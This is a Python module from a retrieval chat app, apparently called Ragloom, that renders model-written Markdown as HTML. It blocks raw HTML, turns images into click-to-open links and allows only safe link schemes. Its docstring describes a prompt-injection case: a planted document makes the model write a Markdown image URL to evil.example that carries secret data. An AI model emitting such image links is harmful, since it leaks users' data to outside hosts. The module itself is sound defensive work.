"""Text a model wrote, as HTML that loads nothing: Markdown rendered here, not in the browser.

An answer is untrusted: a planted document can make the model write
``![x](https://evil.example/?q=secret)`` or a raw ``<img src=...>``, and a browser fetches
an image as soon as it is shown, with no click, which would send what the answer holds to
another host. Gradio's chatbot renders Markdown in the browser and keeps ``<img>``,
``<video>``, ``<picture>``, ``<input type=image>`` and ``style`` attributes through its
sanitizer, so Ragloom renders the Markdown itself (markdown-it-py, CommonMark with GFM
tables and strikethrough) with these rules, and hands the chatbot finished HTML
(``render_markdown=False``; gradio still sanitizes it, a second layer):

- Raw HTML is never HTML: ``<img>``, ``<svg>``, ``<iframe>``, ``<meta>``... show as text.
- An image becomes a link that says it is one (``image: alt``): nothing is fetched until
  the user clicks. Reference-style images and images in links alike: the parser decides
  what an image is, the same parser whose output is shown.
- Links keep working, for ``http``, ``https`` and ``mailto`` only; another scheme
  (``javascript:``, ``data:``, ``file:``) leaves the Markdown as text.

A name a user chose (an index's, a user's, a file's) is no more trusted where gradio
renders Markdown itself (a ``gr.Markdown`` status line): :func:`literal_markdown` makes it
show as written there, never as a link, an image or markup.
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from functools import cache
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token

__all__ = ["SAFE_LINK_SCHEMES", "literal_markdown", "model_html", "plain_html"]

SAFE_LINK_SCHEMES = ("http", "https", "mailto")
"""The schemes a link in model text may have; others are left as text."""

# The ASCII punctuation that can begin Markdown, HTML, an autolink or math: brackets and
# ! of links and images, < of tags, * _ ` ~ of emphasis and code, : / of a URL, . of
# www., @ of an e-mail address, $ of math, # > - + | = of blocks... All but the quote
# marks and , ; ? (which begin nothing), so that a sentence stays readable in the source.
_MARKDOWN_SYNTAX = re.compile(r"[!#$%&()*+\-./:<=>@\[\\\]^_`{|}~]")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")
# What a link opens with: a new tab, no referrer, no ranking credit for a planted URL.
_LINK_ATTRS = {"target": "_blank", "rel": "noopener noreferrer nofollow"}


def _safe_link(url: str) -> bool:
    """Whether ``url`` (already normalised by markdown-it) may be a link target."""
    scheme = _SCHEME.match(url.strip())
    if scheme is None:
        # A relative link or an anchor would resolve against Ragloom's own server.
        return url.strip().startswith("#")
    return scheme.group(1).lower() in SAFE_LINK_SCHEMES


def _render_image(renderer: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    """An image as a link to it, saying it is an image: nothing loads without a click."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = renderer.renderInlineAsText(token.children or [], options, env).strip()
    label = html.escape(f"image: {alt or src}")
    opened = sum(t.type == "link_open" for t in tokens[:idx])
    if opened > sum(t.type == "link_close" for t in tokens[:idx]):
        return label  # inside a link already: a link may not hold another
    attrs = "".join(f' {name}="{html.escape(value)}"' for name, value in _LINK_ATTRS.items())
    return f'<a href="{html.escape(src)}" class="rl-image-link"{attrs}>{label}</a>'


def _render_link_open(
    renderer: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any
) -> str:
    for name, value in _LINK_ATTRS.items():
        tokens[idx].attrSet(name, value)
    return str(renderer.renderToken(tokens, idx, options, env))


@cache
def _markdown() -> MarkdownIt:
    # breaks: a single newline is a line break, as the chatbot showed answers before.
    md = MarkdownIt("commonmark", {"html": False, "breaks": True, "linkify": False})
    md.enable(["table", "strikethrough"])
    md.validateLink = _safe_link  # type: ignore[method-assign]
    md.add_render_rule("image", _render_image)
    md.add_render_rule("link_open", _render_link_open)
    return md


def model_html(text: str) -> str:
    """The Markdown ``text`` (an answer, a question, a stored message) as HTML that shows
    no raw HTML and loads no image, frame, style or media; links stay clickable."""
    return _markdown().render(text or "").strip()


def literal_markdown(text: str) -> str:
    """``text`` (a name a user chose, an error's words) for a ``gr.Markdown`` value, shown
    as written: each character that could be Markdown, HTML or an autolink becomes a
    character reference, which any Markdown parser shows as that character and nothing
    else; line breaks become spaces."""
    flat = (text or "").replace("\r", " ").replace("\n", " ")
    return _MARKDOWN_SYNTAX.sub(lambda m: f"&#{ord(m.group(0))};", flat)


def plain_html(text: str, *, emphasis: bool = False) -> str:
    """``text`` as one escaped paragraph (a status line or an error of Ragloom's own);
    ``emphasis`` sets it in italics."""
    body = html.escape(text or "").replace("\n", "<br>")
    return f"<p><em>{body}</em></p>" if emphasis else f"<p>{body}</p>"
